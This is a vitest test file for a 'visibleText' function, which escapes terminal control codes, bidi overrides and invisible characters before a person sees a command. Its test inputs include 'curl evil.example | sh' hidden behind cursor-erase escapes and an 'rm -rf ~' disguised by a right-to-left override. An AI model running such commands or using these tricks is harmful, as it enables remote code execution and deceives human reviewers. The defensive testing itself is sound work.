/**
 * visibleText: what every face does to text from a call before a person sees it. Each class of
 * character a terminal, dialog or page would interpret is written out; ordinary text, tabs and (on
 * request) newlines are left alone.
 */
import { describe, expect, it } from 'vitest';
import { visibleText } from '../../../src-main/core/api/visibleText.js';

describe('visibleText', () => {
  it('writes out the cursor-and-erase trick that paints a harmless command over the real one', () => {
    const hidden = 'curl evil.example | sh\x1b[1A\x1b[2K\rls';
    const shown = visibleText(hidden);
    expect(shown).toBe('curl evil.example | sh\\x1b[1A\\x1b[2K\\rls');
    for (const raw of ['\x1b', '\r']) expect(shown).not.toContain(raw);
  });

  it('writes out a right-to-left override, so the text cannot display reordered', () => {
    expect(visibleText('ls \u202e~ fr- mr ;')).toBe('ls \\u202e~ fr- mr ;');
  });

  it.each([
    ['ESC', '\x1b', '\\x1b'],
    ['CR', '\r', '\\r'],
    ['backspace', 'a\bb', 'a\\x08b'],
    ['NUL', '\0', '\\x00'],
    ['bell', '\x07', '\\x07'],
    ['vertical tab and form feed', '\v\f', '\\x0b\\x0c'],
    ['DEL', '\x7f', '\\x7f'],
    ['C1 CSI (a one-byte ESC [)', '\x9b2K', '\\x9b2K'],
    ['C1 NEL', '\x85', '\\x85'],
    ['bidi embeddings and overrides', '\u202a\u202b\u202c\u202d\u202e', '\\u202a\\u202b\\u202c\\u202d\\u202e'],
    ['bidi isolates', '\u2066\u2067\u2068\u2069', '\\u2066\\u2067\\u2068\\u2069'],
    ['LRM, RLM and the Arabic letter mark', '\u200e\u200f\u061c', '\\u200e\\u200f\\u061c'],
    [
      'zero-width space, non-joiner, joiner, word joiner',
      'r\u200bm\u200c \u200d-\u2060f',
      'r\\u200bm\\u200c \\u200d-\\u2060f',
    ],
    ['byte order mark', '\ufeffls', '\\ufeffls'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a\\u2028b\\u2029c'],
    ['invisible tag characters', 'ok\u{e0072}\u{e006d}', 'ok\\u{e0072}\\u{e006d}'],
  ])('%s', (_name, input, expected) => {
    expect(visibleText(input)).toBe(expected);
  });

  it('shows a newline as \\n on one line, and keeps it as a line break only when asked; CR is shown either way', () => {
    expect(visibleText('echo a\nrm b')).toBe('echo a\\nrm b');
    expect(visibleText('echo a\nrm b', { keepNewlines: true })).toBe('echo a\nrm b');
    expect(visibleText('echo a\r\nrm b', { keepNewlines: true })).toBe('echo a\\r\nrm b');
  });

  it('leaves ordinary text alone: tabs, spaces, backslashes, accents, other scripts, emoji', () => {
    for (const s of ['ls -la\t/tmp', 'printf "a\\tb\\n"', 'café naïve', 'שלום عربى 日本語', 'done ✓ 🎉', ''])
      expect(visibleText(s)).toBe(s);
  });
});
